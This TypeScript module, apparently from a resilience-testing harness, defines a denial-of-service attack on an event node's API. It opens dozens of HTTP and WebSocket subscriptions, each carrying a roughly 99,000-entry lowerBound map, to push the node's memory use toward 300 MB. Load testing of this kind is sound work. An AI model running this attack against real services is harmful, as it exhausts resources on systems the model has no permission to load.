import type { Assault, Attack } from './attack.ts'
import { jsonRequest, leaveUnread } from './raw-http.ts'
import { crowd } from './raw-socket.ts'
import { countWebSocket, openWebSocket, requestFrame } from './raw-websocket.ts'

/** Nearly as many entries as a request may have JSON values. */
const entries = 99_000

/** Offsets of unknown streams: valid node IDs, whose last character has two zero bits. */
function offsetsOf(n: number, count: number): Record<string, number> {
  const map: Record<string, number> = {}
  for (let i = 0; i < count; i++) map[`${`${n}/${i}/`.padEnd(43, '.')}-0`] = i
  return map
}

/** Subscriptions with a very large lower bound, which the node holds as long as the subscription. */
export const largeMaps: Attack = {
  name: 'large-maps',
  description: `64 subscriptions with a lowerBound of ${entries} entries each, over HTTP and WebSockets`,
  goal: { megabytes: 300 },
  async prepare(victim) {
    // The node may refuse a map because of its size, but not as malformed.
    const body = { query: "FROM 'no-such-tag'", order: 'asc', lowerBound: offsetsOf(0, 10) }
    await victim.request('POST', '/api/v2/events/query', 'application/json', JSON.stringify(body))
  },
  async run(assault) {
    const { victim, signal } = assault
    // A few different maps, built once, to keep the attacker small.
    const bodies = [0, 1].map((n) => ({ query: "FROM 'no-such-tag'", lowerBound: offsetsOf(n, entries) }))
    const requests = bodies.map((body) => Buffer.from(jsonRequest(victim, '/api/v2/events/subscribe', body)))
    const message = requestFrame(1, 'subscribe', bodies[0])
    await Promise.all([
      crowd(48, signal, (n) => leaveUnread(assault, requests[n % requests.length] ?? Buffer.alloc(0))),
      crowd(16, signal, () => subscribeOnWebSocket(assault, message)),
    ])
  },
}

async function subscribeOnWebSocket(assault: Assault, message: Buffer): Promise<void> {
  const raw = await openWebSocket(assault)
  if (raw === undefined) return
  if (await raw.send(message, assault.signal)) await raw.hold(assault.signal)
  await countWebSocket(raw, assault)
}
